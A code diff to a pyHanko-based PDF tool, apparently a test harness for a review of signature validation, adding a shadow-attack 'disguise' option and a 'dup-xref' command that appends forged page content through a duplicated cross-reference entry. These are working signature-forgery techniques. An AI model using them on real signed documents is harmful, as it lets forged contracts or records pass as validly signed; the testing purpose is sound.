@@ -136,6 +136,16 @@ def cmd_sign(args):
         md_algorithm=args.md,
     )
     out = io.BytesIO()
+    if getattr(args, "visible", False):
+        # A visible signature box over the page's text (pyHanko's default stamp).
+        from pyhanko.sign.fields import SigFieldSpec, append_signature_field
+        append_signature_field(writer, SigFieldSpec(sig_field_name=args.field or "Visible",
+                                                    on_page=0, box=(60, 690, 400, 760)))
+        meta = signers.PdfSignatureMetadata(
+            field_name=args.field or "Visible",
+            subfilter=SigSeedSubFilter.ADOBE_PKCS7_DETACHED,
+            md_algorithm=args.md,
+        )
     signers.sign_pdf(writer, meta, signer=signer, output=out)
     write_bytes(args.output, out.getvalue())
     return {"ok": True}
@@ -161,6 +171,11 @@ def cmd_change_page(args):
         }),
     })
     stream = generic.StreamObject(stream_data=b"BT /FChanged 36 Tf 72 600 Td (CHANGED) Tj ET\n")
+    if getattr(args, "disguise", False):
+        # The review's shadow attack: the changed objects declare themselves signature fields,
+        # as if a co-signer's signature needed them.
+        for d in (font, stream):
+            d[generic.NameObject("/FT")] = generic.NameObject("/Sig")
     writer.add_stream_to_page(0, writer.add_object(stream), resources=resources)
     out = io.BytesIO()
     writer.write(out)
@@ -339,6 +354,29 @@ class Parser(argparse.ArgumentParser):
         emit({"error": f"usage: {message}"}, 2)
 
 
+def cmd_dup_xref(args):
+    """The review's parser-differential case: an update that writes a new object 5 (page 1's
+    content, forged) and points an unused number's cross-reference entry at the old object 5,
+    so that a reader filing objects by their header, not their entry, keeps the old one."""
+    import re
+    data = read_bytes(args.input)
+    old = re.search(rb"(?m)^5 0 obj", data)
+    starts = re.findall(rb"startxref\s+(\d+)", data)
+    if not old or not starts:
+        raise UsageError("the input has no object 5 or no startxref")
+    content = b"BT /F1 24 Tf 72 720 Td (FORGED) Tj ET\n"
+    out = bytearray(data)
+    if not out.endswith(b"\n"):
+        out += b"\n"
+    new5 = len(out)
+    out += b"5 0 obj\n<< /Length %d >>\nstream\n" % len(content) + content + b"endstream\nendobj\n"
+    xref = len(out)
+    out += b"xref\n5 1\n%010d 00000 n\r\n20 1\n%010d 00000 n\r\n" % (new5, old.start())
+    out += b"trailer\n<< /Size 21 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n" % (starts[-1], xref)
+    write_bytes(args.output, bytes(out))
+    emit({"ok": True})
+
+
 def cmd_swap_signer(args):
     """Rewrites the CMS of the file's last signature (inside /Contents, which no signature
     covers): adds OTHER's certificate to the CMS certificates, and with --name-it also makes
@@ -398,11 +436,15 @@ def main():
     s.add_argument("--chain", action="append", default=[])
     s.add_argument("--md", choices=["sha256", "sha384"], default="sha256")
     s.add_argument("--field", default="Sig1")
+    s.add_argument("--visible", action="store_true",
+                   help="a visible signature box over the page's first line")
     s.set_defaults(fn=cmd_sign)
 
     s = sub.add_parser("change-page")
     s.add_argument("input")
     s.add_argument("output")
+    s.add_argument("--disguise", action="store_true",
+                   help="the changed objects claim to be signature fields (/FT /Sig)")
     s.set_defaults(fn=cmd_change_page)
 
     s = sub.add_parser("validate")
@@ -410,6 +452,11 @@ def main():
     s.add_argument("--root", action="append", required=True)
     s.add_argument("--other", action="append", default=[])
     s.set_defaults(fn=cmd_validate)
+
+    s = sub.add_parser("dup-xref")
+    s.add_argument("input")
+    s.add_argument("output")
+    s.set_defaults(fn=cmd_dup_xref)
 
     s = sub.add_parser("swap-signer")
     s.add_argument("input")
